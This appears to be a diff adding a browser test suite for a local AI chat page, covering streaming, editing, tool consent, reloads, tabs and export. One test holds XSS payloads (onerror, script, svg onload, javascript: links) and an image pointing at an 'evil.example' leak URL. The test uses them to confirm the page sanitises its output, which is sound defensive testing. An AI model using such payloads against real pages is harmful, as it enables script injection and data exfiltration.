@@ -1,0 +1,547 @@
+// Conversations on the page, with a stub of the package: they are kept, branch, come back after a reload, and nothing that goes wrong loses a word. One page serves
+// all tests; each begins a conversation of its own.
+
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { after, before, test } from 'node:test';
+
+import { openStage } from './browser.mjs';
+import { answers, ask, checkLayout, loadStub, openStubbed, PHONE, picture, plan, settled, WIDE } from './page/stage.mjs';
+
+const LIMIT = { timeout: 60_000 };
+
+let stage;
+let opened;
+let page;
+before(async () => {
+  stage = await openStage();
+  opened = await openStubbed(stage, { permissions: ['clipboard-read', 'clipboard-write'] });
+  ({ page } = opened);
+  await loadStub(page);
+});
+after(async () => {
+  await opened?.close();
+  await stage?.close();
+});
+
+/** An empty conversation, with settings as they are at first. */
+async function begin() {
+  await page.locator('#new-chat').click();
+  await page.locator('#welcome').waitFor();
+  await page.evaluate(() => {
+    stub.plans.length = stub.requests.length = 0;
+  });
+}
+
+const requests = () => page.evaluate(() => stub.requests);
+const titles = () => page.locator('#conversations .title').allTextContents();
+
+test('a question is answered, streamed and kept; the field keeps the focus', LIMIT, async () => {
+  await begin();
+  await page.evaluate(() => document.getElementById('prompt').focus());
+  await ask(page, 'Hello there');
+  assert.equal(await answers(page).locator('.prose').innerText(), 'You said: Hello there');
+  assert.equal(await page.evaluate(() => document.activeElement.id), 'prompt');
+  assert.equal((await titles())[0], 'Hello there');
+  assert.deepEqual((await requests())[0], {
+    messages: [{ role: 'user', content: 'Hello there' }],
+    max_tokens: 1024,
+    temperature: 0,
+    stream: true,
+  });
+  assert.match(await page.locator('.context small').textContent(), /^12 \/ 4,096$/);
+  assert.equal(await page.locator('#spoken').innerText(), 'You said: Hello there');
+});
+
+test('Markdown with code, tables and maths; what is hostile stays text', LIMIT, async () => {
+  await begin();
+  await page.evaluate(() => (globalThis.hacked = 0));
+  const text = [
+    '# Title\n\nSome **bold** text and a [link](https://a.example/x) and [bad](javascript:hacked=1) and $x^2 + 1$ for $5.',
+    '\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nconst a = "<b>";\n```\n\n- [x] done\n- open\n\n$$\\frac{1}{2}$$\n',
+    '\n<img src=x onerror="hacked=1"><script>hacked=1</script>\n\n![pic](https://evil.example/?leak=1) <a href="javascript:hacked=1">x</a> <svg onload="hacked=1">\n\n[ref]: javascript:hacked=1\n',
+  ];
+  const asked = [];
+  page.on('request', (request) => asked.push(request.url()));
+  await plan(page, { deltas: text.flatMap((part) => part.match(/[\s\S]{1,7}/g)).map((content) => ({ content })) });
+  await ask(page, 'Show me');
+  const prose = answers(page).locator('.prose');
+  await prose.locator('math').first().waitFor();
+  const found = await prose.evaluate((element) => ({
+    bold: element.querySelector('strong').textContent,
+    cells: [...element.querySelectorAll('td')].map((cell) => cell.textContent),
+    code: element.querySelector('figure.code pre').textContent,
+    maths: element.querySelectorAll('math').length,
+    links: [...element.querySelectorAll('a')].map((link) => link.getAttribute('href')),
+    forbidden: element.querySelectorAll('img, script, svg, iframe, style, form, [onerror], [onload]').length,
+    text: element.textContent,
+  }));
+  assert.equal(found.bold, 'bold');
+  assert.deepEqual(found.cells, ['1', '2']);
+  assert.equal(found.code, 'const a = "<b>";\n');
+  assert.equal(found.maths, 2);
+  assert.deepEqual(found.links.filter(Boolean), ['https://a.example/x', 'https://evil.example/?leak=1']);
+  assert.equal(found.forbidden, 0);
+  assert.match(found.text, /for \$5\./);
+  assert.match(found.text, /<img src=x onerror/);
+  assert.match(found.text, /☑ done/);
+  assert.equal(await page.evaluate(() => globalThis.hacked), 0);
+  assert.deepEqual(
+    asked.filter((url) => url.includes('evil')),
+    [],
+  );
+  await prose.locator('[data-copy]').click();
+  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'const a = "<b>";\n');
+  await picture(page, 'conversation');
+  await checkLayout(page, 'with an answer of every kind, wide');
+  await page.emulateMedia({ colorScheme: 'dark' });
+  await picture(page, 'conversation-dark');
+  await checkLayout(page, 'dark');
+  await page.setViewportSize(PHONE);
+  await picture(page, 'conversation-phone-dark');
+  await page.emulateMedia({ colorScheme: 'light' });
+  await picture(page, 'conversation-phone');
+  await checkLayout(page, 'on a phone');
+  const { bottom } = await page.locator('#composer').evaluate((form) => form.getBoundingClientRect());
+  assert.ok(Math.abs(bottom - PHONE.height) < 1, `the composer ends at ${bottom}`);
+  await page.locator('#open-side').click();
+  await picture(page, 'conversations-phone');
+  await checkLayout(page, 'with the list of conversations on a phone');
+  await page.keyboard.press('Escape');
+  await page.locator('#open-panel').click();
+  for (const panel of await page.locator('#panel details').all()) await panel.evaluate((element) => (element.open = true));
+  await checkLayout(page, 'with all panels on a phone');
+  await page.locator('#panel').evaluate((panel) => (panel.scrollTop = 0));
+  await picture(page, 'figures-phone');
+  await page.keyboard.press('Escape');
+  await page.setViewportSize(WIDE);
+  await checkLayout(page, 'with all panels, wide');
+  for (const id of ['system-panel', 'settings-panel', 'tools-panel', 'format-panel', 'export-panel'])
+    await page.locator(`#${id}`).evaluate((element) => (element.open = false));
+});
+
+test('an answer of 100 kB keeps the page alive, in blocks and in one', LIMIT, async (t) => {
+  await begin();
+  for (const [name, piece] of [
+    ['in paragraphs', 'word **bold** and `code` '.repeat(20).trim() + '\n\n'],
+    ['in one line', 'word * _ [ ` < $ '],
+    ['as code', null],
+  ]) {
+    const parts =
+      piece === null
+        ? ['```\n', ...Array.from({ length: 100 }, () => 'x = 1;\n'.repeat(143)), '```\n']
+        : Array.from({ length: 100 }, () => piece.repeat(Math.ceil(1000 / piece.length)));
+    await plan(page, { deltas: parts.map((content) => ({ content })) });
+    await page.evaluate(() => {
+      globalThis.longest = 0;
+      let last = performance.now();
+      globalThis.beat = setInterval(() => {
+        const now = performance.now();
+        longest = Math.max(longest, now - last);
+        last = now;
+      }, 10);
+    });
+    const begin = performance.now();
+    await ask(page, name);
+    const longest = await page.evaluate(() => (clearInterval(beat), globalThis.longest));
+    t.diagnostic(
+      `100 kB ${name}: ${((performance.now() - begin) / 1000).toFixed(1)} s, the page stood still for ${Math.round(longest)} ms at most`,
+    );
+    assert.ok(longest < 1500, `${name}: the page stood still for ${longest} ms`);
+    assert.ok((await answers(page).last().locator('.prose').textContent()).length > 90_000, name);
+  }
+});
+
+test('a question that fails keeps its text, and can be asked again or changed', LIMIT, async () => {
+  await begin();
+  await plan(page, { error: { code: 'context_length_exceeded', message: 'the prompt has 5000 tokens' } });
+  await ask(page, 'Too long');
+  assert.match(await page.locator('.failure').textContent(), /too long for this model’s context.*5000 tokens/s);
+  assert.equal(await page.locator('.bubble').textContent(), 'Too long');
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await settled(page);
+  assert.equal(await answers(page).locator('.prose').innerText(), 'You said: Too long');
+  assert.equal(await page.locator('.versions').count(), 0, 'what came to nothing is no version');
+  // What follows a failure is one question for the model.
+  await plan(page, { deltas: [{ content: 'Half' }], error: { code: 'device_lost', message: 'the GPU is gone' } });
+  await ask(page, 'Second');
+  assert.equal(await answers(page).last().locator('.prose').innerText(), 'Half');
+  assert.match(await page.locator('.failure').textContent(), /GPU was reset/);
+  await page.getByRole('button', { name: 'Continue' }).click();
+  await settled(page);
+  const asked = (await requests()).at(-1);
+  assert.equal(asked.continue_final_message, true);
+  assert.equal(asked.messages.at(-1).content, 'Half');
+  assert.equal(await answers(page).last().locator('.prose').innerText(), 'HalfYou said: Half');
+});
+
+test('a setting that is wrong is named in words, where it stands and where it is asked with', LIMIT, async () => {
+  await begin();
+  await page.locator('#settings-panel > summary').click();
+  await page.locator('#set-temperature').fill('warm');
+  assert.match(await page.locator('#set-temperature-fault').textContent(), /Temperature has to be a number from 0 to 2/);
+  await ask(page, 'Hi');
+  assert.match(await page.locator('.failure').textContent(), /No answer\. Temperature has to be a number from 0 to 2\./);
+  assert.deepEqual(await requests(), []);
+  await page.getByRole('button', { name: 'Reset Temperature' }).click();
+  await page.locator('#set-temperature').press('ArrowUp');
+  assert.equal(await page.locator('#set-temperature').inputValue(), '0.05');
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await settled(page);
+  assert.equal((await requests())[0].temperature, 0.05);
+  await picture(page, 'settings');
+  await page.locator('#reset-settings').click();
+  assert.equal(await page.locator('#set-temperature').inputValue(), '0');
+  await page.locator('#settings-panel > summary').click();
+});
+
+test('edit, write again, and change between the versions; tokens of the cache are told', LIMIT, async () => {
+  await begin();
+  await ask(page, 'One');
+  await page.locator('#prompt').press('ArrowUp');
+  const editor = page.locator('.editor textarea');
+  await editor.waitFor();
+  assert.equal(await page.evaluate(() => document.activeElement.value), 'One');
+  await page.keyboard.press('Escape');
+  assert.equal(await editor.count(), 0);
+  assert.equal(await page.evaluate(() => document.activeElement.id), 'prompt');
+  await page.getByRole('button', { name: 'Edit this message' }).click();
+  await plan(page, { deltas: [{ content: 'Second branch' }], cached: 7 });
+  await editor.fill('Two');
+  await editor.press('Enter');
+  await settled(page);
+  assert.equal(await page.locator('.bubble').textContent(), 'Two');
+  assert.match(await page.locator('.counts').textContent(), /7 of 10 from the cache/);
+  await page.getByRole('button', { name: 'Earlier version' }).click();
+  await page.locator('.bubble', { hasText: 'One' }).waitFor();
+  assert.equal(await answers(page).locator('.prose').innerText(), 'You said: One');
+  await plan(page, { deltas: [{ content: 'Another answer' }] });
+  await page.getByRole('button', { name: 'Write this answer again' }).click();
+  await settled(page);
+  assert.equal(await answers(page).locator('.prose').innerText(), 'Another answer');
+  assert.equal(await page.locator('.versions').count(), 2);
+  await answers(page).getByRole('button', { name: 'Copy this answer' }).click();
+  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'Another answer');
+});
+
+test('Stop ends the reading of the prompt, and an answer; Escape does too', LIMIT, async () => {
+  await begin();
+  await plan(page, { holdPrompt: true }, { deltas: [{ content: 'Begun' }, { content: ' never' }], hold: true });
+  await page.locator('#prompt').fill('Long prompt');
+  await page.locator('#prompt').press('Enter');
+  await page.locator('.waiting').waitFor();
+  await page.locator('#send').click();
+  await settled(page);
+  assert.match(await page.locator('.remark').textContent(), /Stopped/);
+  await page.locator('#prompt').fill('Draft while it answers');
+  await page.getByRole('button', { name: 'Write this answer again' }).click();
+  await answers(page).locator('.prose', { hasText: 'Begun' }).waitFor();
+  await page.locator('#prompt').press('Escape');
+  await settled(page);
+  assert.equal(await answers(page).locator('.prose').innerText(), 'Begun');
+  assert.equal(await page.locator('#prompt').inputValue(), 'Draft while it answers');
+  await page.locator('#prompt').fill('');
+});
+
+test('reasoning is folded, and tools are called, with consent where they leave the page', LIMIT, async () => {
+  await begin();
+  await page.locator('#tools-panel > summary').click();
+  for (const name of ['calculator', 'fetch_address']) await page.locator(`#tool-${name}`).check();
+  await page.context().route('https://a.example/page', (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      headers: { 'access-control-allow-origin': '*' },
+      body: '<title>t</title><p>Page words</p><script>hacked = 1</script>',
+    }),
+  );
+  const call = (index, name, given) => ({
+    tool_calls: [{ index, id: `call_${index}`, type: 'function', function: { name, arguments: JSON.stringify(given) } }],
+  });
+  await plan(
+    page,
+    { deltas: [{ reasoning_content: 'Let me compute.' }, call(0, 'calculator', { expression: '6*7' })], finish: 'tool_calls' },
+    { deltas: [call(0, 'fetch_address', { url: 'https://a.example/page' })], finish: 'tool_calls' },
+    { deltas: [{ content: 'It is 42.' }] },
+  );
+  await page.locator('#prompt').fill('Compute');
+  await page.locator('#prompt').press('Enter');
+  const allow = page.locator('#allow');
+  await allow.waitFor();
+  assert.equal(await page.locator('#consent-url').textContent(), 'https://a.example/page');
+  await picture(page, 'tools');
+  await checkLayout(page, 'with a question of a tool');
+  await allow.click();
+  await settled(page);
+  const [first, second, third] = await requests();
+  assert.deepEqual(
+    first.tools.map(({ function: { name } }) => name),
+    ['calculator', 'fetch_address'],
+  );
+  assert.deepEqual(second.messages.at(-1), { role: 'tool', tool_call_id: 'call_0', content: '42' });
+  assert.match(third.messages.at(-1).content, /^Page words/);
+  assert.equal(await page.locator('.reasoning').evaluate((details) => details.open), false);
+  assert.match(await page.locator('.call').first().textContent(), /calculator.*"expression": "6\*7".*Result.*42/s);
+  assert.equal(await answers(page).last().locator('.prose').innerText(), 'It is 42.');
+  // A call is refused, and Stop ends a call that waits for a person.
+  await plan(
+    page,
+    { deltas: [call(0, 'fetch_address', { url: 'https://a.example/page' })], finish: 'tool_calls' },
+    { deltas: [{ content: 'Then not.' }] },
+  );
+  await page.locator('#prompt').fill('Again');
+  await page.locator('#prompt').press('Enter');
+  await page.locator('#deny').click();
+  await settled(page);
+  assert.match((await requests()).at(-1).messages.at(-1).content, /did not allow/);
+  await plan(page, { deltas: [call(0, 'fetch_address', { url: 'https://a.example/page' })], finish: 'tool_calls' });
+  await page.locator('#prompt').fill('Once more');
+  await page.locator('#prompt').press('Enter');
+  await allow.waitFor();
+  await page.keyboard.press('Escape');
+  await settled(page);
+  assert.equal(await allow.count(), 0);
+  for (const name of ['calculator', 'fetch_address']) await page.locator(`#tool-${name}`).uncheck();
+  await page.locator('#tools-panel > summary').click();
+});
+
+test('a call that nothing answers takes its result from the person', LIMIT, async () => {
+  await begin();
+  await plan(
+    page,
+    {
+      deltas: [{ tool_calls: [{ index: 0, id: 'w', type: 'function', function: { name: 'get_weather', arguments: '{"city": "Oslo"}' } }] }],
+      finish: 'tool_calls',
+    },
+    { deltas: [{ content: 'It rains.' }] },
+  );
+  await ask(page, 'Weather?');
+  await page.locator('.call textarea').fill('rain, 4 °C');
+  await page.getByRole('button', { name: 'Give the result' }).click();
+  await settled(page);
+  assert.deepEqual((await requests()).at(-1).messages.at(-1), { role: 'tool', tool_call_id: 'w', content: 'rain, 4 °C' });
+  assert.equal(await answers(page).last().locator('.prose').innerText(), 'It rains.');
+});
+
+test('JSON by a schema: the schema is checked as it is written, the answer when it is there', LIMIT, async () => {
+  await begin();
+  await page.locator('#format-panel > summary').click();
+  await page.getByLabel('JSON by a schema').check();
+  const state = page.locator('#schema-state');
+  await page.locator('#schema').fill('{"type": "objekt"}');
+  await state.filter({ hasText: 'has the type "objekt"' }).waitFor();
+  await page.locator('#schema').fill('{"type": ');
+  await state.filter({ hasText: 'no JSON' }).waitFor();
+  await ask(page, 'Too early');
+  assert.match(await page.locator('.failure').textContent(), /The schema is no JSON/);
+  await page.getByRole('button', { name: 'An example' }).click();
+  await state.filter({ hasText: 'A schema.' }).waitFor();
+  await plan(page, { deltas: [{ content: '{"name": "Mira", ' }, { content: '"age": 31}' }] }, { deltas: [{ content: '{"name": 1}' }] });
+  await page.getByRole('button', { name: 'Try again' }).click();
+  await settled(page);
+  assert.equal((await requests())[0].response_format.type, 'json_schema');
+  assert.match(await page.locator('.message .verdict').textContent(), /Valid by the schema/);
+  await picture(page, 'json');
+  await checkLayout(page, 'with a schema');
+  await ask(page, 'Another');
+  assert.match(await page.locator('.message .verdict').textContent(), /Not valid by the schema/);
+  await page.getByLabel('Any text').check();
+  await page.locator('#format-panel > summary').click();
+});
+
+test('the system prompt belongs to its conversation, and prompts can be kept', LIMIT, async () => {
+  await begin();
+  await page.locator('#system-panel > summary').click();
+  await page.locator('#system').fill('Talk like a pirate.');
+  await page.locator('#system').blur();
+  await page.locator('#save-prompt').click();
+  await ask(page, 'Hi');
+  assert.deepEqual((await requests())[0].messages[0], { role: 'system', content: 'Talk like a pirate.' });
+  await begin();
+  assert.equal(await page.locator('#system').inputValue(), '');
+  await page.locator('#system-prompts').selectOption({ label: 'Talk like a pirate.' });
+  assert.equal(await page.locator('#system').inputValue(), 'Talk like a pirate.');
+  await page.getByRole('button', { name: 'Forget it' }).click();
+  await page.locator('#system-panel > summary').click();
+});
+
+test('rename, search and delete; the focus is never lost', LIMIT, async () => {
+  await begin();
+  await ask(page, 'Find the walrus');
+  await page.getByRole('button', { name: 'Rename Find the walrus' }).click();
+  await page.locator('.rename input').fill('Sea <b>animals</b>');
+  await page.locator('.rename input').press('Enter');
+  await page.locator('.title', { hasText: 'Sea <b>animals</b>' }).waitFor();
+  assert.notEqual(await page.evaluate(() => document.activeElement.tagName), 'BODY');
+  await page.locator('#search').fill('WALRUS');
+  await page.waitForFunction(() => document.querySelectorAll('#conversations li').length === 1);
+  await page.locator('#search').fill('nothing like it');
+  await page.locator('#no-conversations', { hasText: 'Nothing was found' }).waitFor();
+  await page.locator('#search').fill('');
+  await page.getByRole('button', { name: /^Delete Sea/ }).click();
+  assert.equal(await page.evaluate(() => document.activeElement.textContent), 'Delete');
+  await page.keyboard.press('Escape');
+  await page.getByRole('button', { name: /^Delete Sea/ }).click();
+  await page.locator('[data-confirm]').click();
+  await page.locator('#welcome').waitFor();
+  assert.ok(!(await titles()).some((title) => title.startsWith('Sea')));
+  await page.waitForFunction(() => document.activeElement.id === 'new-chat');
+});
+
+test('a conversation that is deleted in mid-answer ends and does not come back', LIMIT, async () => {
+  await begin();
+  await plan(page, { deltas: [{ content: 'Half an' }, { content: ' answer' }], hold: true });
+  await page.locator('#prompt').fill('Doomed');
+  await page.locator('#prompt').press('Enter');
+  await answers(page).locator('.prose', { hasText: 'Half an' }).waitFor();
+  await page.getByRole('button', { name: 'Delete Doomed' }).click();
+  await page.locator('[data-confirm]').click();
+  await page.locator('#welcome').waitFor();
+  await page.evaluate(() => stub.go());
+  await page.waitForTimeout(100);
+  assert.ok(!(await titles()).includes('Doomed'));
+});
+
+test('a reload in mid-answer keeps what there was, and the answer goes on', LIMIT, async () => {
+  await begin();
+  await plan(page, { deltas: [{ content: 'The first half' }, { content: '.' }, { content: ' lost' }], hold: true });
+  await page.locator('#prompt').fill('Tell me');
+  await page.locator('#prompt').press('Enter');
+  await answers(page).locator('.prose', { hasText: 'The first half.' }).waitFor();
+  // Kept a moment after it came.
+  await page.waitForTimeout(500);
+  await page.locator('#prompt').fill('a draft');
+  await opened.start();
+  await answers(page).locator('.prose', { hasText: 'The first half' }).waitFor();
+  assert.equal(await page.locator('#prompt').inputValue(), 'a draft');
+  assert.match(await page.locator('.remark').textContent(), /Interrupted/);
+  // The model that was there is loaded again by itself.
+  await page.locator('#model-summary').filter({ hasText: 'Loaded in' }).waitFor();
+  await plan(page, { deltas: [{ content: ' And the second.' }] });
+  await page.getByRole('button', { name: 'Continue' }).click();
+  await settled(page);
+  assert.match(await answers(page).locator('.prose').innerText(), /^The first half.* And the second\.$/);
+  await page.locator('#prompt').fill('');
+});
+
+test('two tabs: each hears of the other, both write, and nothing is overwritten', LIMIT, async () => {
+  await begin();
+  await ask(page, 'From the first tab');
+  const other = await opened.context.newPage();
+  try {
+    await opened.start(other);
+    await other.locator('#model-summary').filter({ hasText: 'Loaded in' }).waitFor();
+    await other.locator('#conversations .open', { hasText: 'From the first tab' }).click();
+    await plan(other, { deltas: [{ content: 'In the making' }, { content: ', done.' }], hold: true });
+    await other.locator('#prompt').fill('From the second');
+    await other.locator('#prompt').press('Enter');
+    await page.locator('.bubble', { hasText: 'From the second' }).waitFor();
+    await answers(page).nth(1).waitFor();
+    assert.equal(await answers(page).nth(1).getAttribute('aria-busy'), 'true', 'the first tab sees that it is being written');
+    await other.evaluate(() => stub.go());
+    await settled(other);
+    await answers(page).locator('.prose', { hasText: 'In the making, done.' }).waitFor();
+    await ask(page, 'Third');
+    await other.locator('.bubble', { hasText: 'Third' }).waitFor();
+    assert.equal(await other.locator('.bubble').count(), 3);
+    await other.getByRole('button', { name: 'Delete From the first tab' }).click();
+    await other.locator('[data-confirm]').click();
+    await page.locator('#welcome').waitFor();
+  } finally {
+    await other.close();
+  }
+});
+
+test('export and import: JSON comes back, Markdown reads, a broken file is refused in words', LIMIT, async () => {
+  await begin();
+  await ask(page, 'Keep me');
+  await page.locator('#export-panel > summary').click();
+  const download = async (button) => {
+    const [file] = await Promise.all([page.waitForEvent('download'), page.locator(button).click()]);
+    return readFileSync(await file.path(), 'utf8');
+  };
+  assert.match(await download('#export-markdown'), /^# Keep me\n\n## You\n\nKeep me\n\n## stub\n\nYou said: Keep me\n$/);
+  const text = await download('#export');
+  assert.ok(JSON.parse(text).conversations.length >= 1);
+  const one = await download('#export-json');
+  await page.locator('#import-file').setInputFiles({ name: 'chats.json', mimeType: 'application/json', buffer: Buffer.from(one) });
+  await page.waitForFunction(
+    () => [...document.querySelectorAll('#conversations .title')].filter((title) => title.textContent === 'Keep me').length === 2,
+  );
+  assert.equal(await answers(page).locator('.prose').innerText(), 'You said: Keep me');
+  await page
+    .locator('#import-file')
+    .setInputFiles({ name: 'broken.json', mimeType: 'application/json', buffer: Buffer.from(one.slice(0, 99)) });
+  await page.getByRole('alert').filter({ hasText: 'Nothing was imported' }).waitFor();
+  await page.getByRole('button', { name: 'Close this notice' }).click();
+  await page.locator('#export-panel > summary').click();
+});
+
+test('half an emoji and a title of one are no harm', LIMIT, async () => {
+  await begin();
+  await page.evaluate(() => {
+    const field = document.getElementById('prompt');
+    field.value = 'broken \ud83d';
+    field.dispatchEvent(new Event('input', { bubbles: true }));
+  });
+  await page.locator('#prompt').press('Enter');
+  await settled(page);
+  assert.equal((await requests())[0].messages[0].content, 'broken \ufffd');
+});
+
+test('the model is changed in mid-answer: the answer ends on the old one, the next is of the new one', LIMIT, async () => {
+  await begin();
+  await plan(page, { deltas: [{ content: 'Of the old' }, { content: ' one' }], hold: true });
+  await page.locator('#prompt').fill('Which?');
+  await page.locator('#prompt').press('Enter');
+  await answers(page).locator('.prose', { hasText: 'Of the old' }).waitFor();
+  await loadStub(page, 'newer');
+  assert.deepEqual(await page.evaluate(() => stub.disposed), []);
+  await page.evaluate(() => stub.go());
+  await settled(page);
+  assert.equal(await answers(page).locator('.prose').innerText(), 'Of the old one');
+  await page.waitForFunction(() => stub.disposed.includes('stub'));
+  await ask(page, 'And now?');
+  assert.match(await answers(page).last().getAttribute('aria-label'), /newer/);
+});
+
+test('what the browser refuses to keep is shown all the same, and told', LIMIT, async () => {
+  await begin();
+  await page.evaluate(() => {
+    globalThis.put = IDBObjectStore.prototype.put;
+    IDBObjectStore.prototype.put = () => {
+      throw new DOMException('no room', 'QuotaExceededError');
+    };
+  });
+  try {
+    await ask(page, 'Full');
+    await page.getByRole('alert').filter({ hasText: 'no room for this conversation' }).waitFor();
+    assert.equal(await answers(page).locator('.prose').innerText(), 'You said: Full');
+  } finally {
+    await page.evaluate(() => (IDBObjectStore.prototype.put = put));
+  }
+  await page.getByRole('button', { name: 'Close this notice' }).click();
+});
+
+test('without a database, as in some private windows, the page works and says so', LIMIT, async () => {
+  const other = await opened.context.newPage();
+  try {
+    await other.addInitScript(() => {
+      IDBFactory.prototype.open = () => {
+        throw new DOMException('not here', 'SecurityError');
+      };
+      Object.defineProperty(globalThis, 'localStorage', {
+        get: () => {
+          throw new DOMException('not here', 'SecurityError');
+        },
+      });
+    });
+    await opened.start(other);
+    await other.getByRole('alert').filter({ hasText: 'This conversation is not kept' }).waitFor();
+    await loadStub(other);
+    await ask(other, 'Still here');
+    assert.equal(await answers(other).locator('.prose').innerText(), 'You said: Still here');
+    await other.locator('.title', { hasText: 'Still here' }).waitFor();
+  } finally {
+    await other.close();
+  }
+});
